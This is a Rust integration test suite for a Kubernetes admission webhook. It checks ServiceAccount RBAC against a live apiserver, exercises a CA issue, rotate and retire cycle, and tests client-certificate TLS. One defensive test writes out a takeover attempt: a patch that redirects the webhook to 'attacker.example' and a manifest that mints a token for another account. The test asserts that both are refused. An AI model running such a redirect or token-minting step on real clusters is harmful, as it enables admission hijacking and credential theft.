//! Issue 20 on a real kube-apiserver v1.20.2: what each shipped identity may do, asked of
//! the apiserver (SelfSubjectAccessReviews made while impersonating the ServiceAccount,
//! `kubectl auth can-i --as`, and impersonated writes); the certificate Job issuing,
//! rotating and retiring a CA while a webhook replica follows its Secret; and the TLS
//! port requiring the apiserver's client certificate (`serve --client-ca`, the apiserver
//! configured with an AdmissionConfiguration).

use crate::cluster;
use crate::exe;

use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use cluster::{admin_get, admin_status, repo_root, ControlPlane, Webhook};
use serde::Deserialize as _;
use serde_json::{json, Value};

const NS: &str = "rightsizer-system";
const WEBHOOK_SA: &str = "rightsizer";
const JOB_SA: &str = "rightsizer-certs";

static PLANE: tokio::sync::OnceCell<Result<ControlPlane, (bool, String)>> =
    tokio::sync::OnceCell::const_new();
static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

async fn init() -> Result<ControlPlane, (bool, String)> {
    if let Some(reason) = cluster::missing_prerequisite() {
        return Err((true, reason));
    }
    ControlPlane::start().map_err(|e| (false, e))
}

async fn setup() -> (tokio::sync::MutexGuard<'static, ()>, &'static ControlPlane) {
    let guard = SERIAL.lock().await;
    match PLANE.get_or_init(init).await {
        Ok(p) => (guard, p),
        Err((true, reason)) => {
            panic!("the control plane cannot run here: {reason} (tests/build.rs found it)")
        }
        Err((false, e)) => panic!("control plane setup failed: {e}"),
    }
}

fn yaml_docs(text: &str) -> Vec<Value> {
    serde_norway::Deserializer::from_str(text)
        .map(|d| Value::deserialize(d).unwrap())
        .filter(|v| !v.is_null())
        .collect()
}

fn kind(d: &Value) -> &str {
    d["kind"].as_str().unwrap_or_default()
}

fn kustomized(plane: &ControlPlane, dir: &Path) -> Vec<Value> {
    yaml_docs(&plane.kubectl_ok(&["kustomize", &dir.display().to_string()], None))
}

/// The self-managed overlay with deploy/components/pod-watch, as a user's overlay adds it.
fn with_pod_watch(plane: &ControlPlane, tmp: &Path) -> Vec<Value> {
    let status = Command::new("cp")
        .arg("-r")
        .arg(repo_root().join("deploy"))
        .arg(tmp)
        .status()
        .unwrap();
    assert!(status.success());
    let dir = tmp.join("deploy/overlays/pod-watch");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("kustomization.yaml"),
        "resources: [../self-managed]\ncomponents: [../../components/pod-watch]\n",
    )
    .unwrap();
    kustomized(plane, &dir)
}

fn helm_render(values: &str) -> Vec<Value> {
    let out = Command::new(crate::helm_path::helm_path())
        .args(["template", "rightsizer"])
        .arg(repo_root().join("deploy/chart/rightsizer"))
        .args(["--namespace", NS, "--set"])
        .arg(values)
        .env(
            "HELM_CONFIG_HOME",
            std::env::temp_dir().join("rightsizer-helm-test/config"),
        )
        .env(
            "HELM_CACHE_HOME",
            std::env::temp_dir().join("rightsizer-helm-test/cache"),
        )
        .env(
            "HELM_DATA_HOME",
            std::env::temp_dir().join("rightsizer-helm-test/data"),
        )
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    yaml_docs(&String::from_utf8(out.stdout).unwrap())
}

const IDENTITY_KINDS: &[&str] = &[
    "Namespace",
    "ServiceAccount",
    "Role",
    "RoleBinding",
    "ClusterRole",
    "ClusterRoleBinding",
];

/// Objects as one `List` (kubectl reads one JSON document), the Namespace first.
fn list(docs: &[Value]) -> String {
    let mut items: Vec<&Value> = docs.iter().filter(|d| kind(d) == "Namespace").collect();
    items.extend(docs.iter().filter(|d| kind(d) != "Namespace"));
    json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string()
}

fn apply(plane: &ControlPlane, docs: &[Value]) {
    plane.kubectl_ok(&["apply", "-f", "-"], Some(&list(docs)));
}

fn delete(plane: &ControlPlane, docs: &[Value]) {
    let keep: Vec<Value> = docs
        .iter()
        .filter(|d| kind(d) != "Namespace")
        .cloned()
        .collect();
    plane.kubectl_ok(
        &["delete", "--ignore-not-found", "-f", "-"],
        Some(&list(&keep)),
    );
}

/// `kubectl auth can-i` as the ServiceAccount `sa` of rightsizer-system: the apiserver's
/// SelfSubjectAccessReview for the impersonated user. Polled for up to 10 s, since the
/// RBAC authorizer sees applied and deleted roles through its own watch.
fn can_i(plane: &ControlPlane, sa: &str, args: &[&str], want: bool) -> bool {
    let user = format!("system:serviceaccount:{NS}:{sa}");
    let mut a = vec!["auth", "can-i", "--as", user.as_str()];
    a.extend(args);
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let out = plane.kubectl(&a, None);
        let said = String::from_utf8_lossy(&out.stdout).trim() == "yes";
        if said == want || Instant::now() > deadline {
            return said;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The questions asked of every identity: (what, kubectl auth can-i arguments, who may).
/// `Job` is the certificate Job's ServiceAccount, `Reader` the webhook when it reads its
/// Secret (self-managed), `PodWatch` the webhook with the pod-watch RBAC.
#[derive(Clone, Copy, PartialEq)]
enum Who {
    Nobody,
    Job,
    JobAndReader,
    PodWatch,
}

const QUESTIONS: &[(&str, &[&str], Who)] = &[
    (
        "patch its webhook configuration",
        &["patch", "mutatingwebhookconfigurations/rightsizer"],
        Who::Job,
    ),
    (
        "patch another webhook configuration",
        &["patch", "mutatingwebhookconfigurations/other"],
        Who::Nobody,
    ),
    (
        "patch any webhook configuration",
        &["patch", "mutatingwebhookconfigurations"],
        Who::Nobody,
    ),
    (
        "create a webhook configuration",
        &["create", "mutatingwebhookconfigurations"],
        Who::Nobody,
    ),
    (
        "patch a validating configuration",
        &["patch", "validatingwebhookconfigurations/rightsizer"],
        Who::Nobody,
    ),
    (
        "create a Secret in its namespace",
        &["create", "secrets", "-n", NS],
        Who::Nobody,
    ),
    (
        "create a Secret elsewhere",
        &["create", "secrets", "-n", "default"],
        Who::Nobody,
    ),
    (
        "update another Secret",
        &["update", "secrets/other", "-n", NS],
        Who::Nobody,
    ),
    (
        "read another Secret",
        &["get", "secrets/other", "-n", NS],
        Who::Nobody,
    ),
    ("list Secrets", &["list", "secrets", "-n", NS], Who::Nobody),
    (
        "update its TLS Secret",
        &["update", "secrets/rightsizer-tls", "-n", NS],
        Who::Job,
    ),
    (
        "read its TLS Secret",
        &["get", "secrets/rightsizer-tls", "-n", NS],
        Who::JobAndReader,
    ),
    (
        "mint a token",
        &[
            "create",
            "serviceaccounts",
            "--subresource",
            "token",
            "-n",
            NS,
        ],
        Who::Nobody,
    ),
    (
        "create a ServiceAccount",
        &["create", "serviceaccounts", "-n", NS],
        Who::Nobody,
    ),
    (
        "list Pods everywhere",
        &["list", "pods", "--all-namespaces"],
        Who::PodWatch,
    ),
    (
        "watch Pods everywhere",
        &["watch", "pods", "--all-namespaces"],
        Who::PodWatch,
    ),
    (
        "get a Pod",
        &["get", "pods/app", "-n", "default"],
        Who::Nobody,
    ),
    (
        "exec into a Pod",
        &["create", "pods", "--subresource", "exec", "-n", "default"],
        Who::Nobody,
    ),
];

/// Every ServiceAccount of `docs`, asked every question; returns what was wrong.
fn check_install(plane: &ControlPlane, what: &str, docs: &[Value]) -> Vec<String> {
    let identity: Vec<Value> = docs
        .iter()
        .filter(|d| IDENTITY_KINDS.contains(&kind(d)))
        .cloned()
        .collect();
    apply(plane, &identity);
    let sas: Vec<String> = identity
        .iter()
        .filter(|d| kind(d) == "ServiceAccount")
        .map(|d| d["metadata"]["name"].as_str().unwrap().to_string())
        .collect();
    assert!(sas.contains(&WEBHOOK_SA.to_string()), "{what}: {sas:?}");
    let reads_secret = docs
        .iter()
        .any(|d| kind(d) == "Role" && d["metadata"]["name"] == "rightsizer-tls-reader");
    let watches_pods = docs
        .iter()
        .any(|d| kind(d) == "ClusterRole" && d["metadata"]["name"] == "rightsizer-pods");
    let mut wrong = Vec::new();
    for sa in &sas {
        for (question, args, who) in QUESTIONS {
            let may = match who {
                Who::Nobody => false,
                Who::Job => sa == JOB_SA,
                Who::JobAndReader => sa == JOB_SA || (sa == WEBHOOK_SA && reads_secret),
                Who::PodWatch => sa == WEBHOOK_SA && watches_pods,
            };
            let said = can_i(plane, sa, args, may);
            eprintln!("{what}: {sa} may {question}: {said}");
            if said != may {
                wrong.push(format!(
                    "{what}: {sa} may {question}: {said}, should be {may}"
                ));
            }
        }
    }
    delete(plane, &identity);
    wrong
}

/// Every identity of every kustomize install, asked of the apiserver.
#[tokio::test]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn no_kustomize_identity_can_redirect_admission_mint_tokens_or_read_pods() {
    let (_g, plane) = setup().await;
    let deploy = repo_root().join("deploy");
    let tmp = tempfile::tempdir().unwrap();
    let mut wrong = Vec::new();
    for k in ["base", "overlays/cert-manager", "overlays/self-managed"] {
        wrong.extend(check_install(plane, k, &kustomized(plane, &deploy.join(k))));
    }
    wrong.extend(check_install(
        plane,
        "self-managed + pod-watch",
        &with_pod_watch(plane, tmp.path()),
    ));
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// The same for the chart's renders (self-managed with and without the Pod watch,
/// cert-manager).
#[tokio::test]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
#[cfg_attr(
    not(has_helm),
    ignore = "no helm here: run tests/tools/helm.sh (tests/run does)"
)]
async fn no_chart_identity_can_redirect_admission_mint_tokens_or_read_pods() {
    let (_g, plane) = setup().await;
    let mut wrong = Vec::new();
    for values in [
        "replicas=2",
        "certificates.mode=cert-manager",
        "kubeStateMetrics=auto",
    ] {
        let mut docs = helm_render(values);
        docs.push(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS}}));
        wrong.extend(check_install(plane, &format!("chart {values}"), &docs));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Not only the review: the webhook's own token, used, is refused what the takeover
/// needed (patching the webhook configuration, a token Secret for another account).
#[tokio::test]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn the_webhooks_identity_is_refused_the_takeover_writes() {
    let (_g, plane) = setup().await;
    let docs = kustomized(plane, &repo_root().join("deploy/overlays/self-managed"));
    let keep: Vec<Value> = docs
        .iter()
        .filter(|d| {
            IDENTITY_KINDS.contains(&kind(d))
                || ["MutatingWebhookConfiguration", "Secret"].contains(&kind(d))
        })
        .cloned()
        .collect();
    apply(plane, &keep);
    let as_webhook = plane.kubeconfig_as(&format!("system:serviceaccount:{NS}:{WEBHOOK_SA}"));
    let kc = |args: &[&str], stdin: Option<&str>| {
        let mut a = vec!["--kubeconfig", as_webhook.to_str().unwrap()];
        a.extend(args);
        plane.kubectl(&a, stdin)
    };
    let redirect = r#"{"webhooks":[{"name":"mutate.rightsizer.io","clientConfig":{"url":"https://attacker.example/mutate"}}]}"#;
    let token = json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": "minted", "namespace": NS, "annotations": {"kubernetes.io/service-account.name": JOB_SA}}});
    for (what, out) in [
        (
            "patch the webhook configuration",
            kc(
                &[
                    "patch",
                    "mutatingwebhookconfiguration",
                    "rightsizer",
                    "-p",
                    redirect,
                ],
                None,
            ),
        ),
        (
            "create a token Secret",
            kc(&["create", "-f", "-"], Some(&token.to_string())),
        ),
        (
            "update its TLS Secret",
            kc(
                &["-n", NS, "label", "secret", "rightsizer-tls", "x=y"],
                None,
            ),
        ),
        ("list Pods", kc(&["get", "pods", "-A"], None)),
    ] {
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && err.contains("forbidden"),
            "{what}: {err}"
        );
    }
    // What it needs works: reading its Secret.
    let out = kc(&["-n", NS, "get", "secret", "rightsizer-tls"], None);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    delete(plane, &keep);
}

// ------------------------------------------------------------------ the certificate Job

/// The machine's first global IPv4 address (Endpoints may not hold loopback addresses).
fn host_ip() -> String {
    let out = Command::new("ip")
        .args(["-4", "-o", "addr", "show", "scope", "global"])
        .output()
        .expect("ip runs");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .skip_while(|w| *w != "inet")
        .nth(1)
        .and_then(|a| a.split('/').next())
        .map(str::to_string)
        .expect("a global IPv4 address for the webhook's Endpoints")
}

/// `rightsizer certs --kube [extra]` as the Job's ServiceAccount; its stdout.
fn run_job(plane: &ControlPlane, extra: &[&str]) -> String {
    let kubeconfig = plane.kubeconfig_as(&format!("system:serviceaccount:{NS}:{JOB_SA}"));
    let out = Command::new(exe::rightsizer())
        .args(["certs", "--kube", "--namespace", NS])
        .args(extra)
        .env("KUBECONFIG", kubeconfig)
        .env_remove("KUBERNETES_SERVICE_HOST")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "certs --kube: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn secret_data(plane: &ControlPlane) -> serde_json::Map<String, Value> {
    let s: Value = serde_json::from_str(&plane.kubectl_ok(
        &["-n", NS, "get", "secret", "rightsizer-tls", "-o", "json"],
        None,
    ))
    .unwrap();
    let mut out = serde_json::Map::new();
    for (k, v) in s["data"].as_object().cloned().unwrap_or_default() {
        let text = base64_decode(v.as_str().unwrap());
        out.insert(k, Value::String(text));
    }
    out
}

fn base64_decode(s: &str) -> String {
    use base64::Engine as _;
    String::from_utf8(base64::engine::general_purpose::STANDARD.decode(s).unwrap()).unwrap()
}

fn ca_bundle(plane: &ControlPlane) -> String {
    let m: Value = serde_json::from_str(&plane.kubectl_ok(
        &[
            "get",
            "mutatingwebhookconfiguration",
            "rightsizer",
            "-o",
            "json",
        ],
        None,
    ))
    .unwrap();
    m["webhooks"][0]["clientConfig"]["caBundle"]
        .as_str()
        .map(base64_decode)
        .unwrap_or_default()
}

const SERVICE_NAME: &str = "rightsizer.rightsizer-system.svc";

async fn serves_pair_of(addr: SocketAddr, ca: &str, within: Duration) -> bool {
    let deadline = Instant::now() + within;
    loop {
        let ok = rightsizer::kube::certjob::verify_serving(&addr.to_string(), SERVICE_NAME, ca)
            .await
            .is_ok();
        if ok || Instant::now() > deadline {
            return ok;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

fn endpoints(plane: &ControlPlane, ports: &[u16]) {
    let ip = host_ip();
    let subsets: Vec<Value> = ports
        .iter()
        .map(|p| json!({"addresses": [{"ip": ip}], "ports": [{"name": "https", "port": p}]}))
        .collect();
    let e = json!({"apiVersion": "v1", "kind": "Endpoints",
        "metadata": {"name": "rightsizer", "namespace": NS}, "subsets": subsets});
    plane.kubectl_ok(&["apply", "-f", "-"], Some(&e.to_string()));
}

fn not_after_of(pem: &str) -> i64 {
    rightsizer::kube::selfcert::not_after(pem)
        .unwrap()
        .unix_timestamp()
}

/// The Job fills the Secret shipped empty and sets the caBundle; a replica impersonating
/// the webhook's ServiceAccount serves that pair at once (its expiry on the gauge) and is
/// not ready before; a CA rotation puts new + old CA in the bundle, the replica switches,
/// and the old CA is retired only once every Endpoints address serves the new pair.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn the_certificate_job_issues_rotates_and_retires_the_old_ca_with_an_overlap() {
    let (_g, plane) = setup().await;
    let docs = kustomized(plane, &repo_root().join("deploy/overlays/self-managed"));
    let keep: Vec<Value> = docs
        .iter()
        .filter(|d| {
            IDENTITY_KINDS.contains(&kind(d))
                || [
                    "MutatingWebhookConfiguration",
                    "Secret",
                    "CustomResourceDefinition",
                ]
                .contains(&kind(d))
        })
        .cloned()
        .collect();
    apply(plane, &keep);
    plane.kubectl_ok(
        &[
            "wait",
            "--for=condition=established",
            "--timeout=30s",
            "crd/rightsizings.rightsizer.io",
        ],
        None,
    );
    let port = cluster::free_port();
    let listen: SocketAddr = format!("0.0.0.0:{port}").parse().unwrap();
    let local: SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let webhook = Webhook::start_serving(
        listen,
        &plane.kubeconfig_as(&format!("system:serviceaccount:{NS}:{WEBHOOK_SA}")),
        &[
            "--certificate-secret",
            "rightsizer-tls",
            "--own-namespace",
            NS,
            "--kube",
            "always",
        ]
        .map(String::from),
        &[("POD_NAME", "identity-e2e")],
        dir.path().join("serve.log"),
    )
    .expect("serve starts");

    // 1. Before the Job: not ready, and it says why.
    let (code, body) = admin_status(webhook.admin, "/readyz").await.unwrap();
    assert_eq!(code, 503, "{body}");
    assert!(
        body.contains("no serving certificate from Secret rightsizer-tls"),
        "{body}"
    );

    // 2. The first run: a CA and a pair, the bundle set before the replica serves it.
    let said = run_job(plane, &[]);
    assert!(
        said.contains("New") && said.contains("caBundle set"),
        "{said}"
    );
    let first = secret_data(plane);
    let ca1 = first["ca.crt"].as_str().unwrap().to_string();
    assert_eq!(ca_bundle(plane), ca1);
    assert!(!first.contains_key("ca-previous.crt"));
    assert!(
        serves_pair_of(local, &ca1, Duration::from_secs(10)).await,
        "{}",
        webhook.log_text()
    );
    let metrics = admin_get(webhook.admin, "/metrics").await.unwrap();
    let gauge = cluster::counter_sum(&metrics, "rightsizer_tls_cert_not_after_seconds", &[]);
    assert_eq!(
        gauge as i64,
        not_after_of(first["tls.crt"].as_str().unwrap())
    );
    let deadline = Instant::now() + Duration::from_secs(20);
    while admin_status(webhook.admin, "/readyz").await.map(|r| r.0) != Ok(200) {
        assert!(
            Instant::now() < deadline,
            "not ready: {:?}",
            admin_status(webhook.admin, "/readyz").await
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    // A second run changes nothing.
    let said = run_job(plane, &[]);
    assert!(
        said.contains("Keep") && said.contains("unchanged"),
        "{said}"
    );

    // 3. Rotation: the bundle holds the new and the old CA; the replica switches.
    endpoints(plane, &[port, cluster::free_port()]);
    let said = run_job(plane, &["--new-ca"]);
    assert!(said.contains("New"), "{said}");
    let rotated = secret_data(plane);
    let ca2 = rotated["ca.crt"].as_str().unwrap().to_string();
    assert_ne!(ca2, ca1);
    assert_eq!(rotated["ca-previous.crt"].as_str(), Some(ca1.as_str()));
    let bundle = ca_bundle(plane);
    assert!(
        bundle.starts_with(&ca2) && bundle.ends_with(&ca1),
        "{bundle}"
    );
    assert!(
        serves_pair_of(local, &ca2, Duration::from_secs(10)).await,
        "{}",
        webhook.log_text()
    );

    // 4. One Endpoints address serves nothing: the old CA stays.
    let said = run_job(plane, &[]);
    assert!(said.contains("kept"), "{said}");
    assert!(ca_bundle(plane).ends_with(&ca1));
    // 5. Every address serves the new pair: the old CA is retired.
    endpoints(plane, &[port]);
    let said = run_job(plane, &[]);
    assert!(said.contains("retired"), "{said}");
    assert_eq!(ca_bundle(plane), ca2);
    assert!(!secret_data(plane).contains_key("ca-previous.crt"));
    let metrics = admin_get(webhook.admin, "/metrics").await.unwrap();
    let gauge = cluster::counter_sum(&metrics, "rightsizer_tls_cert_not_after_seconds", &[]);
    assert_eq!(
        gauge as i64,
        not_after_of(rotated["tls.crt"].as_str().unwrap())
    );

    drop(webhook);
    plane.kubectl_ok(&["-n", NS, "delete", "endpoints", "rightsizer"], None);
    delete(plane, &keep);
}

// ---------------------------------------------------------- client certificate (--client-ca)

/// An apiserver whose AdmissionConfiguration presents a client certificate reaches a
/// webhook that requires one (`serve --client-ca`; failurePolicy Fail here, so a refused
/// handshake would refuse the Pod); a client without a certificate is refused at the
/// TLS port, and one with the certificate is served.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn the_tls_port_requires_the_apiservers_client_certificate() {
    if cluster::missing_prerequisite().is_some() {
        panic!("the control plane cannot run here (tests/build.rs found it)");
    }
    let _g = SERIAL.lock().await;
    let plane = ControlPlane::start_with_env(&[("RIGHTSIZER_CLUSTER_WEBHOOK_CLIENT", "1")])
        .expect("a control plane with a webhook client certificate");
    let pki = plane.dir.join("pki");
    let dir = plane.dir.join("client-ca");
    std::fs::create_dir_all(&dir).unwrap();
    let tls = cluster::generate_tls(&dir);
    let addr: SocketAddr = format!("127.0.0.1:{}", cluster::free_port())
        .parse()
        .unwrap();
    let client_ca = pki.join("webhook-client-ca.crt").display().to_string();
    let webhook = Webhook::start(
        addr,
        &tls,
        &plane.kubeconfig,
        &["--kube", "never", "--client-ca", &client_ca].map(String::from),
        &[],
        dir.join("serve.log"),
    )
    .expect("serve starts");

    // A client without a certificate: refused (the handshake or the first read fails).
    let refused = cluster::webhook_get(addr, &tls.ca_pem, "/healthz").await;
    assert!(
        refused.is_err(),
        "served without a client certificate: {refused:?}"
    );
    // With the apiserver's certificate: served.
    let mut pem = std::fs::read(pki.join("webhook-client.crt")).unwrap();
    pem.extend(std::fs::read(pki.join("webhook-client.key")).unwrap());
    let client = reqwest::Client::builder()
        .add_root_certificate(reqwest::Certificate::from_pem(tls.ca_pem.as_bytes()).unwrap())
        .identity(reqwest::Identity::from_pem(&pem).unwrap())
        .no_proxy()
        .build()
        .unwrap();
    let ok = client.get(format!("https://{addr}/healthz")).send().await;
    assert!(ok.as_ref().is_ok_and(|r| r.status().is_success()), "{ok:?}");

    // The apiserver calls it: with failurePolicy Fail a Pod is created only if it did.
    use base64::Engine as _;
    plane.kubectl_ok(&["create", "namespace", "mtls"], None);
    plane.kubectl_ok(
        &["label", "namespace", "mtls", "rightsizer.io/enabled=true"],
        None,
    );
    let reg = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "rightsizer-mtls"},
        "webhooks": [{"name": "mutate.rightsizer.io", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "failurePolicy": "Fail", "timeoutSeconds": 5,
            "namespaceSelector": {"matchLabels": {"rightsizer.io/enabled": "true"}},
            "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
            "clientConfig": {"url": format!("https://{addr}/mutate"),
                "caBundle": base64::engine::general_purpose::STANDARD.encode(&tls.ca_pem)}}]});
    plane.kubectl_ok(&["apply", "-f", "-"], Some(&reg.to_string()));
    let reviews = || async {
        let m = admin_get(webhook.admin, "/metrics")
            .await
            .unwrap_or_default();
        cluster::counter_sum(&m, "rightsizer_admission_reviews_total", &[])
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let out = plane.kubectl(
            &[
                "-n",
                "mtls",
                "run",
                "probe",
                "--image=busybox",
                "--restart=Never",
                "--dry-run=server",
            ],
            None,
        );
        if out.status.success() && reviews().await >= 1.0 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the apiserver did not reach the webhook: {}\n{}",
            String::from_utf8_lossy(&out.stderr),
            webhook.log_text()
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

// ---------------------------------------------------------------- the Pod watch's RBAC

/// The base grants no Pods: a webhook configured to watch them (`--kube-state-metrics
/// never`, what deploy/components/pod-watch sets) under the base's rights says so in
/// `/readyz` and its log; with the component's ClusterRole it is ready.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(has_control_plane),
    ignore = "no control plane here: run tests/cluster/build.sh"
)]
async fn a_pod_watch_without_its_rbac_says_so_in_readyz_and_the_log() {
    let (_g, plane) = setup().await;
    let tmp = tempfile::tempdir().unwrap();
    let docs = with_pod_watch(plane, tmp.path());
    let pod_rbac: Vec<Value> = docs
        .iter()
        .filter(|d| d["metadata"]["name"] == "rightsizer-pods")
        .cloned()
        .collect();
    assert_eq!(pod_rbac.len(), 2, "the component's ClusterRole and binding");
    let base: Vec<Value> = docs
        .iter()
        .filter(|d| {
            (IDENTITY_KINDS.contains(&kind(d)) || kind(d) == "CustomResourceDefinition")
                && d["metadata"]["name"] != "rightsizer-pods"
        })
        .cloned()
        .collect();
    apply(plane, &base);
    plane.kubectl_ok(
        &[
            "wait",
            "--for=condition=established",
            "--timeout=30s",
            "crd/rightsizings.rightsizer.io",
        ],
        None,
    );
    let start = |name: &str| {
        let dir = tmp.path().join(name);
        std::fs::create_dir_all(&dir).unwrap();
        let tls = cluster::generate_tls(&dir);
        let addr: SocketAddr = format!("127.0.0.1:{}", cluster::free_port())
            .parse()
            .unwrap();
        Webhook::start(
            addr,
            &tls,
            &plane.kubeconfig_as(&format!("system:serviceaccount:{NS}:{WEBHOOK_SA}")),
            &[
                "--own-namespace",
                NS,
                "--kube",
                "always",
                "--prometheus",
                "http://127.0.0.1:9",
            ]
            .map(String::from),
            &[
                ("POD_NAME", name),
                ("RIGHTSIZER_KUBE_STATE_METRICS", "never"),
            ],
            dir.join("serve.log"),
        )
        .expect("serve starts")
    };
    let readyz_until = |webhook: &Webhook, want: fn(u16, &str) -> bool| {
        let admin = webhook.admin;
        async move {
            let deadline = Instant::now() + Duration::from_secs(20);
            loop {
                let r = admin_status(admin, "/readyz").await;
                if r.as_ref().is_ok_and(|(c, b)| want(*c, b)) || Instant::now() > deadline {
                    return r;
                }
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        }
    };
    let forbidden = start("forbidden");
    let r = readyz_until(&forbidden, |c, b| c == 503 && b.contains("may not")).await;
    let (code, body) = r.unwrap();
    assert_eq!(code, 503, "{body}");
    assert!(
        body.contains("configured to watch Pods (--kube-state-metrics never) but this ServiceAccount may not list pods"),
        "{body}"
    );
    assert!(
        forbidden.log_text().contains("may not list pods"),
        "{}",
        forbidden.log_text()
    );
    drop(forbidden);

    apply(plane, &pod_rbac);
    // The authorizer sees the new binding through its own watch.
    assert!(can_i(
        plane,
        WEBHOOK_SA,
        &["list", "pods", "--all-namespaces"],
        true
    ));
    let allowed = start("allowed");
    let r = readyz_until(&allowed, |c, _| c == 200).await;
    assert_eq!(
        r.as_ref().map(|r| r.0),
        Ok(200),
        "{r:?}\n{}",
        allowed.log_text()
    );
    drop(allowed);
    delete(plane, &base);
    delete(plane, &pod_rbac);
}
